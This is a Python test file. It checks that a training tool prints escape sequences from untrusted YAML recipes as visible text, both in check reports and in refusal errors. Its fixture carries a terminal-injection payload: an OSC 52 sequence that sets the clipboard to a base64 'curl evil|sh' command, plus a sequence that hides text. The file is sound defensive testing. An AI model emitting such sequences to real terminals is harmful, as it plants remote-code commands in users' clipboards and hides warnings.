"""Class F of issue 58: the unconfined parent prints a sent recipe's values, and their escape sequences, shown
(``\\x1b``), never raw: ``recipes check``'s report and verdict, and the ``error:`` line of a refusal
(`lit_memory.errors.shown`, the one function every such line goes through)."""

from __future__ import annotations

import pytest

from lit_memory.__main__ import main
from lit_memory.errors import shown
from lit_memory.sandbox import landlock

# OSC 52 sets the terminal's clipboard (here to `curl evil|sh`); ESC[8m hides the rest of the line, verdict included.
SENT = """\
trainer:
  default_root_dir: "/tmp/elsewhere\\e]52;c;Y3VybCBldmlsfHNo\\a\\e[8m"
  logger: false
"""
RAW = ("\x1b", "\x07", "\x9b")


def run(args: list[str], capsys, monkeypatch, cwd) -> tuple[int, str, str]:
    monkeypatch.chdir(cwd)
    try:
        main(args)
        code = 0
    except SystemExit as exit_:
        code = exit_.code
    out, err = capsys.readouterr()
    return code, out, err


def test_shown_escapes_what_a_terminal_acts_on():
    assert shown("a\x1b]52;c;Y3VybA==\x07b\x1b[8mc\r\nd\u202ee\tf\x9b6n") == (
        "a\\x1b]52;c;Y3VybA==\\x07b\\x1b[8mc\\x0d\\x0ad\\u202ee\tf\\x9b6n")
    assert shown("refusing model.lr=0.1: café, 日本") == "refusing model.lr=0.1: café, 日本"


def test_recipes_check_shows_a_sent_recipes_escape_sequences(tmp_path, capsys, monkeypatch):
    """Every line of the report that carries the recipe's values (a REFUSED value, a problem's key) and the verdict
    below them: escape sequences shown, none raw, the verdict there to read."""
    (tmp_path / "sent.yaml").write_text(SENT)
    (tmp_path / "keys.yaml").write_text('"sneaky\\e[8m": 1\n')
    code, out, err = run(["recipes", "check", "sent.yaml"], capsys, monkeypatch, tmp_path)
    assert code == 2, err
    assert not any(c in out + err for c in RAW), (out + err).encode()
    refused = [line for line in out.splitlines() if line.startswith("  REFUSED  ")]
    assert refused and refused[0].startswith(
        "  REFUSED  trainer.default_root_dir=/tmp/elsewhere\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[8m: a run folder")
    assert out.splitlines()[-1].startswith("trust: a run of sent.yaml is confined")
    assert err.strip().splitlines() == ["error: sent.yaml: 1 refused; pass --trust-recipe only if you trust its source"]
    code, out, err = run(["recipes", "check", "keys.yaml"], capsys, monkeypatch, tmp_path)
    assert code == 2 and not any(c in out + err for c in RAW), (out + err).encode()
    assert "  problem  unknown keys: sneaky\\x1b[8m" in out.splitlines()


@pytest.mark.skipif(landlock.abi() < 1, reason="a sent recipe's run is judged this far only where it can be confined")
def test_a_refusals_error_line_shows_the_recipes_escape_sequences(tmp_path, capsys, monkeypatch):
    """``fit --config sent.yaml``: the run folder the recipe chooses is refused in one ``error:`` line, its value's
    OSC 52 and hiding sequences shown, the reason and the hint after them there to read."""
    (tmp_path / "sent.yaml").write_text(SENT)
    monkeypatch.delenv("LIT_MEMORY_SANDBOX", raising=False)
    code, out, err = run(["fit", "--config", "sent.yaml"], capsys, monkeypatch, tmp_path)
    assert code == 2 and not any(c in out + err for c in RAW), (out + err).encode()
    errors = [line for line in err.splitlines() if line.startswith("error: ")]
    value = "/tmp/elsewhere\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[8m"
    assert errors == [f"error: refusing trainer.default_root_dir={value}: a run folder a recipe chooses must be a new "
                      f"folder under the working folder {tmp_path.resolve()}; pass --trust-recipe only if you "
                      "trust its source"], err
